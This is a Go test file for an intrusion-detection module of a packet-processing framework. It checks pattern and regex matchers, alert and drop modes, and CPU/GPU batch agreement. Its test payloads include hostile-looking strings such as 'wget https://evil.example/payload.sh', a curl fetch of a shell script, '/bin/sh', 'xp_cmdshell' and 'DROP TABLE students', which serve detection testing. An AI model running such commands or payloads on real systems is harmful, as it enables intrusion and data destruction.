package ids

import (
	"regexp"
	"strings"
	"testing"
	"testing/quick"

	"nba/internal/batch"
	"nba/internal/element"
	"nba/internal/packet"
	"nba/internal/rng"
)

func TestACBasicMatching(t *testing.T) {
	ac, err := BuildAC([]string{"he", "she", "his", "hers"})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		in   string
		want int
	}{
		{"ushers", 0}, // "he" (id 0) inside "ushers"
		{"this", 2},
		{"xyz", -1},
		{"she", 0}, // both "she" and "he" end; lowest id wins
		{"hi his", 2},
	}
	for _, c := range cases {
		if got := ac.Match([]byte(c.in)); got != c.want {
			t.Errorf("Match(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestACScanOccurrences(t *testing.T) {
	ac, _ := BuildAC([]string{"ab", "b"})
	var hits [][2]int
	ac.Scan([]byte("abab"), func(id, end int) bool {
		hits = append(hits, [2]int{id, end})
		return true
	})
	// Occurrences: ab@2, b@2, ab@4, b@4.
	if len(hits) != 4 {
		t.Fatalf("hits = %v, want 4 occurrences", hits)
	}
	// Early termination.
	count := 0
	ac.Scan([]byte("abab"), func(id, end int) bool {
		count++
		return false
	})
	if count != 1 {
		t.Errorf("Scan continued after visit returned false")
	}
}

func TestACOverlappingSuffixPatterns(t *testing.T) {
	ac, _ := BuildAC([]string{"aaa", "aa"})
	found := map[int]bool{}
	ac.Scan([]byte("aaaa"), func(id, end int) bool {
		found[id] = true
		return true
	})
	if !found[0] || !found[1] {
		t.Errorf("suffix pattern missed: found=%v", found)
	}
}

func TestACMatchesNaiveProperty(t *testing.T) {
	patterns := []string{"abc", "bca", "cab", "aa", "bb", "abcabc", "ca"}
	ac, err := BuildAC(patterns)
	if err != nil {
		t.Fatal(err)
	}
	f := func(data []byte) bool {
		// Restrict the alphabet so matches actually occur.
		for i := range data {
			data[i] = 'a' + data[i]%3
		}
		return ac.Match(data) == NaiveMatch(patterns, data)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

func TestACBuildErrors(t *testing.T) {
	if _, err := BuildAC(nil); err == nil {
		t.Error("empty pattern set accepted")
	}
	if _, err := BuildAC([]string{"ok", ""}); err == nil {
		t.Error("empty pattern accepted")
	}
}

func TestDefaultSignaturesCompile(t *testing.T) {
	ac, err := BuildAC(DefaultSignatures)
	if err != nil {
		t.Fatal(err)
	}
	if ac.States() < len(DefaultSignatures) {
		t.Errorf("suspiciously small automaton: %d states", ac.States())
	}
	if got := ac.Match([]byte("GET /x HTTP/1.1\r\nagent: sqlmap /bin/sh here")); got == -1 {
		t.Error("known signature not found")
	}
}

func TestRegexParserErrors(t *testing.T) {
	bad := []string{"(", ")", "a(b", "[", "[]", "[z-a]", "*a", "+", "a\\", `a\q`, "[a\\"}
	for _, p := range bad {
		if _, err := ParseRegex(p); err == nil {
			t.Errorf("ParseRegex(%q) succeeded, want error", p)
		}
	}
}

func TestDFAAgainstStdlibProperty(t *testing.T) {
	// Our DFA scans for a match anywhere, i.e. stdlib semantics of an
	// unanchored MatchString. Compare across a pattern corpus and random
	// inputs over a small alphabet.
	patterns := []string{
		`abc`,
		`a+b`,
		`ab*c`,
		`a?bc`,
		`(ab|cd)+`,
		`[a-c]+d`,
		`[^a]bc`,
		`a.c`,
		`(a|b)(c|d)`,
		`ab(cd)*ef`,
	}
	for _, pat := range patterns {
		d, err := CompileRules([]string{pat})
		if err != nil {
			t.Fatalf("CompileRules(%q): %v", pat, err)
		}
		std := regexp.MustCompile(pat)
		f := func(raw []byte) bool {
			data := make([]byte, len(raw))
			for i := range raw {
				data[i] = "abcdef"[raw[i]%6]
			}
			got := d.Match(data) >= 0
			want := std.Match(data)
			return got == want
		}
		if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
			t.Errorf("pattern %q: %v", pat, err)
		}
	}
}

func TestDFAMultiRuleLowestID(t *testing.T) {
	d, err := CompileRules([]string{"zzz", "ab", "b"})
	if err != nil {
		t.Fatal(err)
	}
	if got := d.Match([]byte("xxabxx")); got != 1 {
		t.Errorf("Match = %d, want 1 (lowest matching rule)", got)
	}
	if got := d.Match([]byte("xbx")); got != 2 {
		t.Errorf("Match = %d, want 2", got)
	}
	if got := d.Match([]byte("xxx")); got != -1 {
		t.Errorf("Match = %d, want -1", got)
	}
}

func TestDFAClassesAndEscapes(t *testing.T) {
	d, err := CompileRules([]string{`\d+\.\d+`, `[a-f]+[0-9]`, `a\tb`})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		in   string
		want int
	}{
		{"version 10.25 ok", 0},
		{"deadbeef7", 1},
		{"a\tb", 2},
		{"nothing", -1},
	}
	for _, c := range cases {
		if got := d.Match([]byte(c.in)); got != c.want {
			t.Errorf("Match(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestDefaultRegexRulesCompile(t *testing.T) {
	d, err := CompileRules(DefaultRegexRules)
	if err != nil {
		t.Fatal(err)
	}
	if got := d.Match([]byte("GET /index.php?id=42 HTTP/1.1")); got != 0 {
		t.Errorf("rule 0 not matched: got %d", got)
	}
	if got := d.Match([]byte("wget https://evil.example/payload.sh")); got != 4 {
		t.Errorf("rule 4 not matched: got %d", got)
	}
}

func TestCompileRulesErrors(t *testing.T) {
	if _, err := CompileRules(nil); err == nil {
		t.Error("empty rule set accepted")
	}
	if _, err := CompileRules([]string{"("}); err == nil {
		t.Error("bad rule accepted")
	}
}

func mkPayloadPkt(t *testing.T, payload string) *packet.Packet {
	t.Helper()
	p := &packet.Packet{}
	frameLen := packet.EthHdrLen + packet.IPv4HdrLen + packet.UDPHdrLen + len(payload)
	n := packet.BuildUDP4(p.Buf(), [6]byte{2}, [6]byte{4}, 1, 2, 3, 4, frameLen)
	p.SetLength(n)
	copy(p.Buf()[packet.EthHdrLen+packet.IPv4HdrLen+packet.UDPHdrLen:], payload)
	return p
}

func elemCtx() (*element.ConfigContext, *element.ProcContext) {
	nl := element.NewNodeLocal()
	return &element.ConfigContext{NodeLocal: nl, NumPorts: 4, Rand: rng.New(1)},
		&element.ProcContext{NodeLocal: nl, Rand: rng.New(2), CostScale: 1}
}

func TestMatchACElementAlertAndDrop(t *testing.T) {
	cc, pc := elemCtx()
	e := &MatchAC{}
	if err := e.Configure(cc, nil); err != nil {
		t.Fatal(err)
	}
	clean := mkPayloadPkt(t, "totally benign content here")
	if r := e.Process(pc, clean); r != 0 || clean.Anno[packet.AnnoMatchResult] != 0 {
		t.Error("clean packet flagged")
	}
	evil := mkPayloadPkt(t, "try /bin/sh now")
	if r := e.Process(pc, evil); r != 0 {
		t.Error("alert mode dropped packet")
	}
	if evil.Anno[packet.AnnoMatchResult] == 0 {
		t.Error("match annotation not set")
	}
	if e.Matches != 1 {
		t.Errorf("Matches = %d, want 1", e.Matches)
	}

	drop := &MatchAC{}
	if err := drop.Configure(cc, []string{"drop"}); err != nil {
		t.Fatal(err)
	}
	evil2 := mkPayloadPkt(t, "try /bin/sh now")
	if r := drop.Process(pc, evil2); r != element.Drop {
		t.Error("drop mode did not drop")
	}
}

func TestMatchREElement(t *testing.T) {
	cc, pc := elemCtx()
	e := &MatchRE{}
	if err := e.Configure(cc, []string{"alert"}); err != nil {
		t.Fatal(err)
	}
	evil := mkPayloadPkt(t, "GET /a.php?id=123")
	if e.Process(pc, evil); evil.Anno[packet.AnnoMatchResult] == 0 {
		t.Error("regex match annotation not set")
	}
	// Regex IDs sit above the signature ID space.
	if evil.Anno[packet.AnnoMatchResult] <= uint64(len(DefaultSignatures)) {
		t.Error("regex annotation overlaps AC ID space")
	}
}

func TestElementConfigErrors(t *testing.T) {
	cc, _ := elemCtx()
	if err := (&MatchAC{}).Configure(cc, []string{"explode"}); err == nil {
		t.Error("bad mode accepted")
	}
	if err := (&MatchRE{}).Configure(cc, []string{"explode"}); err == nil {
		t.Error("bad mode accepted")
	}
}

func TestElementsShareCompiledAutomata(t *testing.T) {
	cc, _ := elemCtx()
	a, b := &MatchAC{}, &MatchAC{}
	a.Configure(cc, nil)
	b.Configure(cc, nil)
	if a.ac != b.ac {
		t.Error("AC automaton rebuilt per replica")
	}
}

// TestCPUAndGPUPathsAgree: for both matchers in both modes, the device-side
// batch kernel leaves every packet with the annotation, the element with the
// Matches count and, in drop mode, exactly the slots with ResultDrop that the
// per-packet CPU path produces. The batch mixes sizes (so groups have ragged
// tails), has masked slots and ends in a partial group.
func TestCPUAndGPUPathsAgree(t *testing.T) {
	payloads := []string{
		"innocuous", "/bin/sh", "xp_cmdshell", "fine", "DROP TABLE students",
		"GET /a.php?id=123", strings.Repeat("x", 1000) + "wget http://evil", "",
		strings.Repeat("y", 400) + "admin:hunter2@" + strings.Repeat("y", 400), "curl  https://a.b/c.sh",
		"uid=0(root)", strings.Repeat("z", 1400), "session=QUJD==", "ok",
	}
	masked := map[int]bool{0: true, 6: true, 13: true}
	type matcher interface {
		element.Offloadable
		Configure(*element.ConfigContext, []string) error
	}
	for _, c := range []struct {
		name    string
		mk      func() matcher
		matches func(matcher) uint64
	}{
		{"IDSMatchAC", func() matcher { return &MatchAC{} }, func(m matcher) uint64 { return m.(*MatchAC).Matches }},
		{"IDSMatchRE", func() matcher { return &MatchRE{} }, func(m matcher) uint64 { return m.(*MatchRE).Matches }},
	} {
		for _, mode := range []string{"alert", "drop"} {
			cc, pc := elemCtx()
			cpu, gpu := c.mk(), c.mk()
			for _, e := range []matcher{cpu, gpu} {
				if err := e.Configure(cc, []string{mode}); err != nil {
					t.Fatal(err)
				}
			}
			var bt batch.Batch
			var want []*packet.Packet
			var wantRes []int
			for i, pl := range payloads {
				bt.Add(mkPayloadPkt(t, pl))
				if masked[i] {
					bt.Mask(i)
					want, wantRes = append(want, nil), append(wantRes, 0)
					continue
				}
				p := mkPayloadPkt(t, pl)
				wantRes = append(wantRes, cpu.Process(pc, p))
				want = append(want, p)
			}
			gpu.ProcessOffloaded(pc, &bt)
			hits := 0
			for i, pl := range payloads {
				got := bt.Packet(i)
				if masked[i] {
					if got.Anno[packet.AnnoMatchResult] != 0 || bt.Result(i) != 0 {
						t.Errorf("%s %s: masked slot %d touched", c.name, mode, i)
					}
					continue
				}
				if got.Anno[packet.AnnoMatchResult] != want[i].Anno[packet.AnnoMatchResult] {
					t.Errorf("%s %s payload %.20q: CPU anno %d, GPU anno %d", c.name, mode, pl,
						want[i].Anno[packet.AnnoMatchResult], got.Anno[packet.AnnoMatchResult])
				}
				if (bt.Result(i) == batch.ResultDrop) != (wantRes[i] == element.Drop) {
					t.Errorf("%s %s payload %.20q: CPU result %d, GPU result %d", c.name, mode, pl, wantRes[i], bt.Result(i))
				}
				if wantRes[i] == element.Drop {
					hits++
				}
			}
			if c.matches(gpu) != c.matches(cpu) || c.matches(cpu) == 0 {
				t.Errorf("%s %s: CPU Matches %d, GPU Matches %d", c.name, mode, c.matches(cpu), c.matches(gpu))
			}
			if mode == "drop" && uint64(hits) != c.matches(cpu) {
				t.Errorf("%s drop: %d slots dropped, %d matches", c.name, hits, c.matches(cpu))
			}
		}
	}
}

func TestStringsHelperCoverage(t *testing.T) {
	if !containsStr("hello", "") || !containsStr("hello", "ell") || containsStr("hi", "hello") {
		t.Error("containsStr wrong")
	}
	if !strings.Contains(DefaultSignatures[0], "/") {
		t.Error("unexpected signature content")
	}
}

// fillLower fills data with random lowercase letters, the generators'
// filler alphabet (no built-in rule matches it).
func fillLower(r *rng.Rand, data []byte) {
	for i := range data {
		data[i] = 'a' + byte(r.Uint64()%26)
	}
}

func BenchmarkACScan1500(b *testing.B) {
	ac, _ := BuildAC(DefaultSignatures)
	data := make([]byte, 1500)
	fillLower(rng.New(1), data)
	b.SetBytes(1500)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ac.Match(data)
	}
}

func BenchmarkDFAScan1500(b *testing.B) {
	d, err := CompileRules(DefaultRegexRules)
	if err != nil {
		b.Fatal(err)
	}
	data := make([]byte, 1500)
	fillLower(rng.New(1), data)
	b.SetBytes(1500)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d.Match(data)
	}
}

// BenchmarkScanBatch64x1024 is the device-side form: 64 live 1024 B frames
// through both batch kernels, as one ids-1024B-gpu aggregate member sees it.
func BenchmarkScanBatch64x1024(b *testing.B) {
	ac, _ := BuildAC(DefaultSignatures)
	d, err := CompileRules(DefaultRegexRules)
	if err != nil {
		b.Fatal(err)
	}
	var bt batch.Batch
	r := rng.New(1)
	for i := 0; i < 64; i++ {
		p := &packet.Packet{}
		p.SetLength(1024)
		fillLower(r, p.Data())
		bt.Add(p)
	}
	var ids [batch.MaxBatchSize]int32
	for _, k := range []struct {
		name string
		t    *scanTable
	}{{"AC", &ac.scanTable}, {"DFA", &d.scanTable}} {
		b.Run(k.name, func(b *testing.B) {
			b.SetBytes(64 * (1024 - packet.EthHdrLen))
			b.ReportAllocs()
			for i := 0; i < b.N; i++ {
				k.t.matchBatch(&bt, &ids)
			}
		})
	}
}
